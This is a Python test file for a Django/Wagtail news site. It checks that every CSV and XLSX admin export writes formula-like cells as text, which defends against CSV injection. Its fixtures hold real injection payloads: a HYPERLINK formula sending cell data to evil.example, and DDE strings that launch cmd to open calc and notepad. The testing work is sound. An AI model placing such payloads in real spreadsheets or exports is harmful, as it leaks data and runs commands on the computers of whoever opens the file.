"""Issue 18, finding 3: no CSV export hands a formula to a spreadsheet (CSV injection).

Hostile partner names and notes, author names, entity descriptions and page titles go through
every export of the project (ours and Wagtail's reports); each text cell starting with a formula
character comes out as text (a leading apostrophe), and the XLSX exports keep them as text too.
"""

import csv
import io

from django.urls import reverse

import pytest
from openpyxl import load_workbook

from demo import factories
from demo.partner_factories import make_partner
from newsroom.spreadsheets import FORMULA_TRIGGERS, neutralise_formula
from partners.models import ClickCount, paris_today

pytestmark = [pytest.mark.django_db, pytest.mark.urls("tests.partners.urls")]

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+33 1 23 45 67 89"
MINUS = "-2+3+cmd|' /C notepad'!A1"
TAB = "\t=1+1"
CR = "\r=1+1"
FULLWIDTH = '\uff1dHYPERLINK("https://evil.example/")'


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    text = body.decode()
    # The sales exports are written for French Excel (BOM, `;`); Wagtail's own keep its commas.
    if text.startswith("\ufeff"):
        return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    return list(csv.reader(io.StringIO(text)))


def assert_no_formula_cell(rows):
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in FORMULA_TRIGGERS, f"formula cell exported as typed: {cell!r}"


@pytest.fixture
def hostile(section):
    partner = make_partner(name=HYPERLINK, note=DDE)
    other = make_partner(name=MINUS, note=TAB)
    ClickCount.objects.create(partner=partner, placement="site", day=paris_today(), clicks=3)
    ClickCount.objects.create(partner=other, placement="article", day=paris_today(), clicks=2)
    author = factories.make_author(name=PLUS, bio=CR)
    factories.make_entity(name=FULLWIDTH, description=DDE)
    article = factories.make_article(section=section, title=HYPERLINK, authors=[author], sponsor=partner)
    return {"partner": partner, "other": other, "author": author, "article": article}


def test_neutralise_formula_leaves_numbers_and_plain_text_alone():
    assert neutralise_formula(HYPERLINK) == "'" + HYPERLINK
    assert neutralise_formula("-5") == "'-5"  # text that looks like a number is still text
    assert neutralise_formula(-5) == -5
    assert neutralise_formula("animauxpro.fr") == "animauxpro.fr"
    assert neutralise_formula("") == ""
    assert neutralise_formula(None) is None


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("/admin/snippets/partners/partner/?export=csv", {"'" + HYPERLINK, "'" + DDE, "'" + MINUS, "'" + TAB}),
        ("/admin/partenaires/statistiques/?export=csv", {"'" + HYPERLINK, "'" + MINUS}),
        ("/admin/partenaires/statistiques/mois/?export=csv", {"'" + HYPERLINK, "'" + MINUS}),
        ("/admin/rapports/articles-sponsorises/?export=csv", {"'" + HYPERLINK}),
        ("/admin/snippets/articles/author/?export=csv", {"'" + PLUS, "'" + CR}),
        ("/admin/snippets/entities/entity/?export=csv", {"'" + FULLWIDTH, "'" + DDE}),
        # Wagtail's own reports print page titles a journalist typed.
        ("/admin/reports/aging-pages/?export=csv", {"'" + HYPERLINK}),
        ("/admin/reports/site-history/?export=csv", {"'" + HYPERLINK}),
    ],
)
def test_every_csv_export_writes_hostile_cells_as_text(client, superuser, hostile, url, expected):
    client.force_login(superuser)

    rows = csv_rows(client.get(url))

    cells = {cell for row in rows[1:] for cell in row}
    assert expected <= cells
    assert_no_formula_cell(rows)


def test_sales_exports_are_neutralised_for_the_commercial_role_too(client, sales, hostile):
    client.force_login(sales)

    for url in ("/admin/snippets/partners/partner/?export=csv", reverse("articles_sponsored_report") + "?export=csv"):
        rows = csv_rows(client.get(url))
        assert "'" + HYPERLINK in {cell for row in rows for cell in row}
        assert_no_formula_cell(rows)


def test_xlsx_exports_keep_hostile_cells_as_text(client, superuser, hostile):
    client.force_login(superuser)

    response = client.get("/admin/snippets/partners/partner/?export=xlsx")

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    hostile_cells = [cell for cell in cells if cell.value in {HYPERLINK, DDE, MINUS, TAB}]
    assert len(hostile_cells) == 4
    assert all(cell.data_type == "s" for cell in hostile_cells)
